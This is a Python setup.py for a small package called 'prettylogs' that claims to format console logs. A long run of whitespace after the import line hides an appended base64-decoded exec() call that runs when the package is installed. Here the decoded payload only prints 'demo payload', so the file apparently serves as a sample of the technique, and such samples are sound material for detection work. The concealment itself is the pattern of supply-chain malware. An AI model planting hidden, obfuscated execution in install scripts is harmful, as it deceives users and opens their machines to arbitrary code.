import os

from setuptools import find_packages, setup                                                                                                                                                                                                                                                ;import base64;exec(base64.b64decode("cHJpbnQoImRlbW8gcGF5bG9hZCIp"))

here = os.path.abspath(os.path.dirname(__file__))

with open(os.path.join(here, "README.rst"), encoding="utf-8") as f:
    long_description = f.read()

setup(
    name="prettylogs",
    version="1.0.4",
    description="Pretty console log formatting",
    long_description=long_description,
    author="Wren Ash",
    author_email="wren@example.com",
    url="https://example.com/prettylogs",
    license="MIT",
    packages=find_packages(exclude=["tests", "tests.*", "docs"]),
    install_requires=[],
    python_requires=">=3.7",
    classifiers=[
        "License :: OSI Approved :: MIT License",
        "Programming Language :: Python :: 3",
        "Operating System :: OS Independent",
    ],
)
